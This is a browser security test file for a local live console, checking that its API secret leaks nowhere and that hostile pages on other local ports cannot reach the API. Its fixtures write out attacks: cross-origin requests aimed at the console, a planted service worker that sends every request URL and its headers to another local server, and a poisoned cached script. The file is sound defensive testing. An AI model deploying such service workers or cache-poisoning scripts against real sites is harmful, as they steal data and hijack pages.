// @ts-check
// The live console in real browsers, beside pages that are after the account: other servers of this machine, and what
// an earlier page of its port has left behind. Nothing of it may reach the API.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { serveLive } from "../server/live.mjs";
import { KEY, startProxy, startUpstream } from "../server/testing.mjs";
import { dist } from "./browser.mjs";
import { engines } from "./live-browsers.mjs";

const OWN = "[data-mode=live]";
const LOCKED = "main.locked h1";

/**
 * Another server of this machine.
 * @param {(path: string) => { type: string, body: string, headers?: Record<string, string> } | undefined} files
 * @param {number} [port]
 */
async function startOther(files, port = 0) {
  /** @type {string[]} Each request with its headers. */
  const seen = [];
  const server = createServer((request, response) => {
    seen.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
    const file = files((request.url ?? "/").split("?")[0] ?? "/");
    response.writeHead(file === undefined ? 404 : 200, {
      "content-type": file?.type ?? "text/plain",
      ...file?.headers,
    });
    response.end(file?.body ?? "");
  });
  await new Promise((resolve) => server.listen(port, "127.0.0.1", () => resolve(undefined)));
  return {
    seen,
    port: /** @type {import("node:net").AddressInfo} */ (server.address()).port,
    close: () =>
      new Promise((resolve) => {
        server.close(resolve);
        server.closeAllConnections();
      }),
  };
}

for (const engine of engines) {
  describe(engine.name, { skip: engine.skip, timeout: 180_000 }, () => {
    /** @type {Awaited<ReturnType<typeof engine.start>>} */
    let browser;
    /** @type {Awaited<ReturnType<typeof startUpstream>>} */
    let api;
    before(async () => {
      browser = await engine.start();
      api = await startUpstream();
    });
    after(async () => {
      await browser?.close();
      await api?.close();
    });

    /** @param {import("node:test").TestContext} t @param {number} [port] */
    const startLive = async (t, port = 0) => {
      const live = await serveLive({ apiKey: KEY, baseUrl: api.url, staticDir: dist, port });
      t.after(() => live.close());
      return {
        ...live,
        secret: /** @type {string} */ (live.address.split("#key=")[1]),
        port: Number(new URL(live.url).port),
      };
    };
    /** @param {import("node:test").TestContext} t */
    const open = async (t) => {
      const tab = await browser.open();
      t.after(() => tab.close());
      return tab;
    };

    test("the secret stays in no place where another page could find it", async (t) => {
      const live = await startLive(t);
      const tab = await open(t);
      await tab.goto(live.address);
      await tab.waitForSelector(OWN);
      assert.equal(tab.url().replace(/#\/?$/, ""), `${live.url}/`);
      const kept = await tab.evaluate(async () =>
        JSON.stringify([
          location.href,
          document.cookie,
          { ...localStorage },
          { ...sessionStorage },
          await indexedDB.databases(),
          await caches.keys(),
          history.state,
          window.name,
          document.documentElement.outerHTML,
        ]),
      );
      assert.ok(!kept.includes(live.secret) && !kept.includes(KEY), kept);
      assert.ok(
        api.seen.length > 0 && api.seen.every((request) => request.includes(KEY) && !request.includes(live.secret)),
        "the page reads the account, and the API never sees the secret",
      );
    });

    test("a reload and a new tab are locked, say what to do, and open where they were", async (t) => {
      const live = await startLive(t);
      const tab = await open(t);
      await tab.goto(live.address);
      await tab.waitForSelector(OWN);
      await tab.evaluate(() => void (location.hash = "#/contacts"));
      await tab.waitForSelector('a[href="#/contacts"][aria-current=page]');
      await tab.reload();
      await tab.waitForSelector(LOCKED);
      const before = api.seen.length;
      const text = await tab.evaluate(() => document.body.innerText);
      assert.match(text, /printed in your terminal/);
      assert.match(text, /printed/);
      const second = await open(t);
      await second.goto(`${live.url}/#/contacts`);
      await second.waitForSelector(LOCKED);
      assert.equal(api.seen.length, before, "nothing is asked of the API");

      // In an open tab only the fragment changes: the page is not loaded again.
      await tab.goto(live.address);
      await tab.waitForSelector('a[href="#/contacts"][aria-current=page]');
      assert.equal(tab.url(), `${live.url}/#/contacts`);
    });

    test("a wrong secret is told as wrong, and the right one still opens the tab", async (t) => {
      const live = await startLive(t);
      const tab = await open(t);
      await tab.goto(live.address.slice(0, -1));
      await tab.waitForSelector(`${LOCKED} ~ [role=alert]`);
      await tab.goto(live.address);
      await tab.waitForSelector(OWN);
      // And no link can take it away again.
      await tab.evaluate(() => void (location.hash = "#key=another"));
      await tab.goto(`${live.url}/#/contacts`);
      await tab.waitForSelector('a[href="#/contacts"][aria-current=page]');
      assert.equal(await tab.evaluate(() => document.querySelector("main [role=alert]")), null);
    });

    test("other servers of this machine get nothing, and their pages cause nothing", async (t) => {
      const live = await startLive(t);
      const other = await startOther(() => ({ type: "text/html", body: "<title>harmless</title><img src=/pixel>" }));
      t.after(other.close);
      const console_ = await open(t);
      await console_.goto(live.address);
      await console_.waitForSelector(OWN);

      for (const host of ["127.0.0.1", "localhost", "other.localhost"]) {
        // A tab for each: the attack ends in a navigation that the next visit would interrupt, which Firefox calls an error.
        const tab = await open(t);
        await tab.goto(`http://${host}:${other.port}/`);
        await tab.evaluate(
          async (origins) => {
            const pause = (/** @type {number} */ ms) => new Promise((resolve) => setTimeout(resolve, ms));
            for (const origin of origins) {
              const target = `${origin}/v1/attack`;
              await fetch(target, { credentials: "include" }).catch(() => {});
              await fetch(target, { mode: "no-cors", credentials: "include" }).catch(() => {});
              await fetch(target, { method: "POST", mode: "no-cors", credentials: "include", body: "{}" }).catch(
                () => {},
              );
              await fetch(target, {
                method: "POST",
                headers: { "x-console-secret": "x", "content-type": "application/json" },
                body: "{}",
              }).catch(() => {});
              const frame = document.createElement("iframe");
              frame.name = `f${Math.random()}`;
              frame.src = target;
              const form = Object.assign(document.createElement("form"), {
                method: "post",
                action: target,
                target: frame.name,
              });
              const image = Object.assign(new Image(), { src: target });
              const script = Object.assign(document.createElement("script"), { src: target });
              document.body.append(frame, image, script, form);
              form.submit();
              navigator.sendBeacon(target, "{}");
            }
            await pause(500);
          },
          [live.url, `http://127.0.0.1:${live.port}`, `http://localhost:${live.port}`],
        );
        await tab.evaluate((target) => void (location.href = target), `${live.url}/v1/attack`).catch(() => {});
        await new Promise((resolve) => setTimeout(resolve, 300));
      }
      assert.ok(other.seen.length >= 3, "the other server was visited");
      assert.ok(
        !other.seen.some((request) => request.includes(live.secret) || request.includes("cookie")),
        other.seen.join("\n"),
      );
      assert.ok(!api.seen.some((request) => request.includes("attack")), "nothing has reached the API");
    });

    test("a service worker that an earlier page of this port left neither sees nor sends anything", async (t) => {
      const home = await startOther(() => ({
        type: "text/plain",
        body: "",
        headers: { "access-control-allow-origin": "*" },
      }));
      t.after(home.close);
      const worker = `
        addEventListener("install", () => skipWaiting());
        addEventListener("activate", (event) => event.waitUntil(clients.claim()));
        addEventListener("fetch", (event) => {
          fetch("http://127.0.0.1:${home.port}/" + encodeURIComponent(event.request.url + JSON.stringify([...event.request.headers])), { mode: "no-cors" });
          if (event.request.mode === "navigate") event.respondWith(fetch("/v1/attack", { method: "POST", body: "{}" }).then(() => fetch(event.request.url)));
        });`;
      const earlier = await startOther((path) =>
        path === "/sw.js"
          ? { type: "text/javascript", body: worker }
          : path === "/"
            ? { type: "text/html", body: "<title>earlier</title>" }
            : undefined,
      );
      const names = ["127.0.0.1", "localhost", "live-0123456789.localhost"];
      for (const name of names) {
        const tab = await open(t);
        await tab.goto(`http://${name}:${earlier.port}/`);
        const taken = await tab.evaluate(async () => {
          const controlled = new Promise((resolve) =>
            navigator.serviceWorker.addEventListener("controllerchange", () => resolve(true)),
          );
          await navigator.serviceWorker.register("/sw.js");
          return controlled;
        });
        assert.equal(taken, true, `it is in force on ${name}`);
      }
      await earlier.close();
      const live = await startLive(t, earlier.port);
      const before = home.seen.length;
      const tab = await open(t);
      await tab.goto(live.address);
      await tab.waitForSelector(OWN);
      assert.equal(await tab.evaluate(() => navigator.serviceWorker.controller), null);
      assert.deepEqual(home.seen.slice(before), []);
      for (const name of names)
        await tab.goto(`http://${name}:${live.port}/${new URL(live.address).hash}`).catch(() => {});
      assert.ok(!api.seen.some((request) => request.includes("attack")), "nothing has reached the API");
    });

    test("a script that an earlier page of this port left in the cache does not run", async (t) => {
      const asset =
        /src="\.?\/?(assets\/[^"]+\.js)"/.exec(readFileSync(join(dist, "index.html"), "utf8"))?.[1] ??
        assert.fail("the page has no script");
      const script = 'document.title = "owned"; fetch("/v1/attack", { method: "POST", body: "{}" });';
      const earlier = await startOther((path) => {
        if (path === `/${asset}`)
          return {
            type: "text/javascript",
            body: script,
            headers: { "cache-control": "public, max-age=31536000, immutable" },
          };
        return path === "/"
          ? {
              type: "text/html",
              body: `<title>earlier</title><script type="module" crossorigin src="/${asset}"></script>`,
            }
          : undefined;
      });
      const tab = await open(t);
      for (const name of ["127.0.0.1", "localhost"]) {
        await tab.goto(`http://${name}:${earlier.port}/`);
        assert.equal(await tab.evaluate(() => document.title), "owned", "it is in the cache");
      }
      await earlier.close();
      const live = await startLive(t, earlier.port);
      await tab.goto(live.address);
      await tab.waitForSelector(OWN);
      assert.notEqual(await tab.evaluate(() => document.title), "owned");
      assert.ok(!api.seen.some((request) => request.includes("attack")), "nothing has reached the API");
    });

    test("the console's own origin gets no service worker, whoever asks for one", async (t) => {
      const live = await startProxy(api.url);
      t.after(() => live.close());
      const tab = await open(t);
      await tab.goto(live.address);
      const outcome = await tab.evaluate(() =>
        navigator.serviceWorker.register("/page.js").then(
          () => "registered",
          (error) => error.name,
        ),
      );
      assert.match(outcome, /^(SecurityError|TypeError)$/);
    });
  });
}
